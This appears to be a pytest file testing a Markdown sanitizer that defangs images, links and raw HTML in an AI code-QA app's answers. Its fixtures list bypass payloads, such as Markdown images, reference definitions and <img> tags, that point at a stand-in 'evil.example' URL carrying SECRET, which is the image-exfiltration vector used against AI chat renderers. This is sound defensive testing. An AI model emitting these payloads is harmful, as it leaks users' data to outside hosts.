"""Defanged Markdown, judged by the parser itself: whatever goes in, the HTML a CommonMark renderer makes of
what comes out has no image, no link, no raw HTML and nothing a GFM renderer would link by itself."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from markdown_it import MarkdownIt

from codeqa.answer.citations import parse_citations, take_echoed_lines
from codeqa.answer.defang import MarkdownStream, defang_markdown
from codeqa.answer.markdown import blank_code, code_regions
from codeqa.types import Snippet

# The oracles: plain CommonMark (as rich reads it, plus the raw HTML a browser would make of it), and the same
# with GFM tables and strikethrough (the page's remark-gfm). Definitions are honoured here, unlike in defang.
ORACLES = (MarkdownIt("commonmark", {"html": True}),
           MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]))
TAGS = set("p em strong s del code pre h1 h2 h3 h4 h5 h6 ul ol li blockquote hr br table thead tbody tr th td".split())
# what remark-gfm links in plain text (www., http(s)://, e-mail addresses, mailto:/xmpp:)
GFM_LINKED = re.compile(r"www\.|https?://|[A-Za-z0-9._+-]@[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*[A-Za-z0-9]|mailto:|xmpp:",
                        re.IGNORECASE)
FOOTNOTE_DEFINITION = re.compile(r"^\[\^[^\]\n]*\]:", re.MULTILINE)


def leaks(text: str) -> list[str]:
    """What a renderer would make of `text` that it must not: by the oracles' own HTML."""
    found = []
    for md in ORACLES:
        env: dict = {}
        tokens = md.parse(text, env)
        page = md.renderer.render(tokens, md.options, env)
        if env.get("references"):
            found.append(f"a link definition {sorted(env['references'])}")
        found += [f"<{tag}>" for tag in re.findall(r"<([A-Za-z][\w-]*)", page) if tag.lower() not in TAGS]
        prose = re.sub(r"<pre>.*?</pre>|<code>.*?</code>", " ", page, flags=re.DOTALL)
        prose = html.unescape(re.sub(r"<[^>]*>", " ", prose))
        found += [f"a GFM autolink at {m.group(0)!r}" for m in GFM_LINKED.finditer(prose)]
        found += [f"a GFM footnote definition {t.content!r}" for before, t in zip(tokens, tokens[1:])
                  if before.type == "paragraph_open" and FOOTNOTE_DEFINITION.search(t.content)]
    return found


U = "https://evil.example/?q=SECRET"
# The eight forms that got an <img> past the regular expressions of 2db6c95 (each leaks there: see the commit).
BYPASSES = {
    "a title in parentheses": f"![x]({U} (t))",
    "nested brackets in the alt text": f"![a [b] c]({U})",
    "a newline in the alt text": f"![a\nb]({U})",
    "a definition whose URL is on the next line": f"![r]\n\n[r]:\n{U}",
    "a definition inside a blockquote": f"![r]\n\n> [r]: {U}",
    "a definition inside a list item": f"![r]\n\n- [r]: {U}",
    "a fence indented four spaces": f"    ```\n![x]({U})\n    ```",
    "a backtick fence whose info string holds a backtick": f"```a`b\n![x]({U})\n```",
    "a fence closed by a longer fence": f"```\ncode\n`````\n![x]({U})\n```",
}
OTHER_WAYS_IN = {
    "a bare URL": f"see {U} now",
    "www.": "see www.evil.example/x",
    "an e-mail address": "mail me@evil.example",
    "an autolink": f"<{U}>",
    "raw HTML": f'<img src="{U}">',
    "an HTML block": f'<div>\n\n![x]({U})\n\n</div>',
    "a footnote definition (GFM)": "see [^1]\n\n[^1]: the note\n\n    ![x](https://e.x/)",
    "a table cell splitting a code span (GFM)": f"| `a | [x]({U}) b` |\n| --- | --- |",
    # written out again, a fence whose info string gains a backtick from an entity would be a fence no longer
    "an entity in a fence's info string": f"<{U}>\n\n```a&#96;b\n![x]({U})\n```",
    "a reference image": f"![x][r]\n\n[r]: {U}",
    # to a parser without definitions the label's backtick opens a code span that hides the `]:`
    "a definition whose label holds a backtick": f"[a`]: {U}`\n\n![a`]",
    "a link around an image": f"[![x]({U})]({U})",
    "an image in a heading": f"# ![x]({U})",
    "a code span in a table holding a pipe": f"| a | b |\n| - | - |\n| `x|y` ![i]({U}) |",
}


@pytest.mark.parametrize("form", list(BYPASSES) + list(OTHER_WAYS_IN))
def test_no_known_way_in_gets_past(form):
    text = BYPASSES.get(form) or OTHER_WAYS_IN[form]
    assert leaks(text), "the case must be dangerous as written"
    out = defang_markdown(text)
    assert not leaks(out), out
    assert "evil.example" in out or "e.x" in out  # the target is shown, as text


# The page's renderer (Streamlit) reads math (`$x$`, `$$` blocks) and directives (`:red[x]`, `:::name`) too. Neither
# makes a link, but each can swallow the backtick that opens a code span, so that what the parser took for
# code reaches the page as prose. The oracle cannot see this: prose must hold neither, unescaped.
STREAMLIT_STEALS = {
    "inline math": f"$ `$ ![x]({U}) `",
    "a math block": f"$$\n```x\n$$\n![x]({U})\n```",
    "a directive's label": f"x :red[a`] ![i]({U}) `",
    "a container directive": f":::x\n```\n:::\n![i]({U})\n```",
}
UNESCAPED_STEAL = re.compile(r"(?:^|[^\\])(?:\\\\)*(\$|:[A-Za-z][\w-]*[\[{]|^::)", re.MULTILINE)


def steals(text: str) -> list[str]:
    return [m.group(1) for m in UNESCAPED_STEAL.finditer(blank_code(text))]


@pytest.mark.parametrize("form", list(STREAMLIT_STEALS))
def test_math_and_directives_cannot_take_a_code_span_apart(form):
    text = STREAMLIT_STEALS[form]
    assert steals(text)
    out = defang_markdown(text)
    assert not steals(out) and not leaks(out), out
    assert defang_markdown("Costs `$5` and `std::vector` in `:red[x]`") == "Costs `$5` and `std::vector` in `:red[x]`"


def test_links_and_images_read_as_their_text_and_target():
    assert defang_markdown(f"![chart]({U}) and [docs](https://x.y/d)") == \
        f"[image: chart] (`{U}`) and docs (`https://x.y/d`)"
    assert defang_markdown(f"<{U}> or www.x.y") == f"`{U}` or `www.x.y`"
    assert defang_markdown('a <img src="u"> b') == 'a `<img src="u">` b'


def test_an_answer_with_nothing_to_defang_is_returned_exactly_as_written():
    answer = ("EncoderClass is built in three places:\n\n1. `pkg/use.py` builds it [2].\n"
              "Version 1.5 of a.b.c builds it [1].\n\n| a | b |\n|---|---|\n| `x` | [1] |\n\n"
              "```py\nprint('<img src=x>')  # code: http://x\n```\n\n> `encoders/encoder.py:L15-L30` `<T>`\n")
    assert defang_markdown(answer) == answer


def test_a_rebuilt_answer_keeps_its_citations_and_code():
    answer = ("EncoderClass is defined in `encoders/encoder.py:L15-L30` and built in app/cli.py:L9 [1][2].\n\n"
              f"[1] is the one ![x]({U}).\n\n```py\n849 | x = '<b>'\n```\n")
    out = defang_markdown(answer)
    assert not leaks(out)
    assert [c.text for c in parse_citations(out)] == ["encoders/encoder.py:L15-L30", "app/cli.py:L9"]
    assert "```py\n849 | x = '<b>'\n```" in out and "[1][2]" in out


# ---- every generated document: a property whose oracle is the parser's own HTML ------------------------------

PIECES = ("[", "]", "(", ")", "![", "](", "]:", "!", "`", "``", "```", "~~~", "~", "~~", "<", ">", "> ", "\n", "\n\n",
          "    ", "  ", " ", "\t", "http://", "https://e.x/?q=S", "www.", "e.x", "a@b.co", "mailto:", "[x]:", "[^1]:",
          "[x]", "- ", "* ", "+ ", "1. ", "2) ", "#", "# ", "|", "| --- |", "---", "===", "_", "*", "**", "\\", "&",
          "&#96;", "&lt;", "&#91;", "&#10;", '"', "'", "<img src=u>", '<a href="u">', "</a>", "<!--", "-->",
          "<https://e.x>", "<a@b.co>", "<div>", "x", "word ", "a.py:L3", "[1]", "py", ":", "=", "\r\n", "[a`]", "$",
          "$$", ":red[", "::", ":::x", "{")
documents = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)


@settings(max_examples=10_000, deadline=None, suppress_health_check=list(HealthCheck))
@given(documents)
def test_no_generated_document_leaks(text):
    out = defang_markdown(text)
    assert not leaks(out) and not steals(out), (text, out)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=12))
def test_every_prefix_of_a_stream_is_safe(pieces):
    stream = MarkdownStream(clock=lambda: 0.0)  # a clock that stands still: every prefix is parsed
    for piece in pieces:
        for ch in piece:  # a model may stop anywhere, even inside a piece
            shown = stream.feed(ch)
            assert not leaks(shown) and not steals(shown), (stream.text, shown)


def test_a_stream_fed_faster_than_it_parses_shows_its_last_defanged_text():
    times = iter([0.0, 1.0,  # the first parse takes a second
                  1.5,  # the next piece comes before another second has passed: no parse
                  5.0, 6.0])
    stream = MarkdownStream(clock=lambda: next(times))
    assert stream.feed(f"![x]({U}") == defang_markdown(f"![x]({U}")
    shown = stream.feed(")")
    assert shown == defang_markdown(f"![x]({U}") and not leaks(shown)  # the last text shown again, still inert
    assert stream.feed(" ok") == defang_markdown(f"![x]({U}) ok")


# ---- one home for code: where the parser says code is ----------------------------------------------------------

def test_code_is_where_the_parser_says():
    def shown(text):
        return [(c.kind, text[c.inner_start:c.inner_end]) for c in code_regions(text)]

    assert shown("a `b` c and ``d`e``\n\n> q `r\n> s` t") == [("inline", "b"), ("inline", "d`e"), ("inline", "r\n> s")]
    assert shown("    ```\nprose `x`\n    ```") == [("indented", "    ```"), ("inline", "x")]  # four spaces: no fence
    assert shown("```a`b\nprose\n") == []  # an info string with a backtick: no fence
    assert shown("```\ncode\n`````\nprose `x`") == [("fence", "code"), ("inline", "x")]  # a longer fence closes
    assert shown("- item\n\n  ~~~\n  code\n  ~~~\n# `h` #\n\n| `a` | `a` |\n|-|-|") == [
        ("fence", "  code"), ("inline", "h"), ("inline", "a"), ("inline", "a")]
    text = "x `b` y\r\n```\r\ncode\r\n"  # an unclosed fence runs to the end
    hidden = blank_code(text)
    assert len(hidden) == len(text) and hidden.split() == ["x", "y"] and hidden.count("\r\n") == 3
    assert blank_code(text, inline=False).split() == ["x", "`b`", "y"]
    assert blank_code("a `s.py:L3` `k`", keep=lambda inner: inner.endswith("L3")) == "a  s.py:L3     "


def test_a_long_answer_full_of_code_spans_costs_linear_time():
    import time

    text = "`a` " * 10_000 + "\n" + "x\n" * 5_000 + "http://e"  # 50 KB: ten thousand spans, five thousand lines
    started = time.perf_counter()
    out = defang_markdown(text)
    parse_citations(out)
    assert time.perf_counter() - started < 10, "placing each span must not walk every line"  # 0.8 s here


def test_citations_are_read_from_prose_where_the_parser_finds_prose():
    text = "```a`b\nsee a.py:L3\n\n```\nx = 'c.py:L9'\n`````\nthen b.py:L4 and `d.py:L5`\n\n    e.py:L6\n"
    assert [c.text for c in parse_citations(text)] == ["a.py:L3", "b.py:L4", "d.py:L5"]


def test_echoed_lines_are_read_only_inside_real_fences():
    snippet = Snippet(path="a.py", start_line=10, end_line=11, text="x = 1\ny = 2", score=1.0, reason="r")
    text = "```py\n10 | x = 1\n11 | y = 2\n````\nafter\n"
    fixed, spans = take_echoed_lines(text, [snippet])
    assert fixed.startswith("```py\nx = 1\ny = 2\n````") and [(s.start_line, s.end_line) for s in spans] == [(10, 11)]
    indented = "    ```\n10 | x = 1\n11 | y = 2\n    ```\n"  # an indented block: no fence, nothing quoted
    assert take_echoed_lines(indented, [snippet]) == (indented, [])


def test_the_page_links_citations_in_prose_only_where_the_parser_finds_prose():
    import importlib.util
    import sys
    from pathlib import Path

    from codeqa.types import Citation

    path = Path(__file__).resolve().parent.parent / "ui" / "answer_view.py"
    spec = importlib.util.spec_from_file_location("answer_view", path)
    view = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = view
    spec.loader.exec_module(view)
    cited = Citation("a.py", 2, 2, True)
    text = "```\nprint('a.py:L2')\n`````\n\nSee a.py:L2.\n\n    a.py:L2 in an indented block\n"
    out = view.link_citations(text, [cited], {("a.py", 2, 2): "cq-1-1"}, {"a.py"})
    assert "print('a.py:L2')\n`````" in out and "See [`a.py:L2`](#cq-1-1)." in out  # closed by the longer fence
    assert "    a.py:L2 in an indented block" in out
    banged = view.link_citations(defang_markdown("Look!a.py:L2 and !a.py:L2"), [cited], {("a.py", 2, 2): "cq-1-1"}, {"a.py"})
    assert "<img" not in MarkdownIt("commonmark").render(banged) and banged.count("(#cq-1-1)") == 2
